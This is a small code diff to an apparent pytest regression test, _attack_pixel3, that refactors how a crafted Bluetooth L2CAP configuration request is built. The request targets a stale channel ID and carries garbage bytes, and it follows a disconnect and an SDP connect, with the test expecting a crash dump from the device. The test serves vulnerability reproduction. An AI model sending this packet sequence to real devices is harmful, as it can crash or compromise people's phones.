@@ -36,8 +36,9 @@ def _attack_pixel3() -> tuple[object, str]:
     queue.send(disconnection_request(dcid=stale, scid=0x0070, identifier=2))
     queue.send(connection_request(psm=Psm.SDP, scid=0x0071, identifier=3))
 
-    attack = configuration_request(dcid=stale, identifier=4)
-    attack.garbage = bytes.fromhex("D23A910E")
+    attack = configuration_request(dcid=stale, identifier=4).replace(
+        garbage=bytes.fromhex("D23A910E")
+    )
     with pytest.raises(ConnectionFailedError):
         queue.send(attack)
     return device, device.crash_dumps[0]
